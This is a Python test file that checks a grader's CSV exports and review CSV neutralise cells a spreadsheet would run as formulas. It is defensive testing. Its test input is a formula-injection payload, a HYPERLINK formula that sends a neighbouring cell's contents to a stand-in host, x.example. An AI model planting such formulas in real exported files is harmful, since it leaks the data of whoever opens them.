"""Every CSV the grader writes (each export format and the review CSV) neutralises a cell a
spreadsheet would run as a formula, from the one trigger list in `grader.spreadsheet`."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from grader.export import FORMATS, ExportOptions, export
from grader.export.roster import Roster, RosterEntry
from grader.scores import PartScore, ScoreTable, StudentRow
from grader.spreadsheet import FORMULA_TRIGGERS, neutralise, restore
from grader.store import review
from grader.store.gradebook import EffectivePart, Override

NOW = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)

# Each trigger by name: the ASCII ones and their full-width forms.
TRIGGERS = {
    "equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t", "newline": "\n",
    "carriage_return": "\r", "fullwidth_equals": "\uff1d", "fullwidth_plus": "\uff0b",
    "fullwidth_minus": "\uff0d", "fullwidth_at": "\uff20",
}


def _export_csv(fmt: str, hostile: str, tmp_path: Path) -> str:
    part = PartScore("p1", 1.5, 2.0, "partial", (hostile,))
    table = ScoreTable(problem_set="lab", title="Lab 3", parts=[("p1", 2.0)], part_titles={"p1": "Shapes"},
                       rows=[StudentRow(student=hostile, parts={"p1": part}, total=1.5, max_total=2.0,
                                        needs_review=False, comment=hostile)])
    roster = Roster({hostile: RosterEntry(
        student=hostile, name=hostile, first_name=hostile, last_name=hostile, section=hostile,
        ids={"canvas_id": "101", "sis_login_id": hostile, "email": hostile, "username": hostile,
             "org_defined_id": hostile, "sis_user_id": hostile, "idnumber": hostile},
    )})
    out = tmp_path / f"out-{fmt}.csv"
    result = export(table, fmt, out, roster=roster, options=ExportOptions(now=NOW))
    assert result.written == 1, result
    return out.read_text(encoding="utf-8-sig")


def _review_csv(hostile: str, tmp_path: Path) -> str:
    decision = Override(1, 7, "lab", "p1", 0.5, hostile, "ta", NOW)
    part = EffectivePart("p1", "p1", "expression", "needs_review", 0.0, 2.0, (hostile,), hostile, None, decision)
    out = io.StringIO()
    assert review.export_csv([review.ReviewItem(7, hostile, part)], out) == 1
    return out.getvalue()


WRITERS = [*(name for name, f in FORMATS.items() if f.suffix == ".csv"), "review"]


@pytest.mark.parametrize("trigger", sorted(TRIGGERS))
@pytest.mark.parametrize("writer", WRITERS)
def test_a_cell_a_spreadsheet_would_run_is_neutralised_by_every_csv_writer(writer, trigger, tmp_path):
    hostile = TRIGGERS[trigger] + 'HYPERLINK("http://x.example/?leak="&A1)'
    text = _review_csv(hostile, tmp_path) if writer == "review" else _export_csv(writer, hostile, tmp_path)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    carrying = [cell for cell in cells if "HYPERLINK" in cell]
    assert carrying, f"{writer} wrote none of the student's text: {cells}"
    for cell in carrying:
        assert cell[:1] not in FORMULA_TRIGGERS, (writer, cell)
    # neutralised by a prefix, not dropped (a lone carriage return in a cell is written as a newline)
    assert any(cell[1:].startswith((hostile, hostile.replace("\r", "\n"))) for cell in carrying), carrying


def test_the_trigger_list_is_the_documented_one_and_neutralising_can_be_undone():
    assert set(TRIGGERS.values()) == FORMULA_TRIGGERS
    for trigger in FORMULA_TRIGGERS:
        assert restore(neutralise(trigger + "1+1")) == trigger + "1+1"
    assert neutralise("Martin, Alice") == "Martin, Alice" == restore("Martin, Alice")
    assert restore("'quoted by the author") == "'quoted by the author"
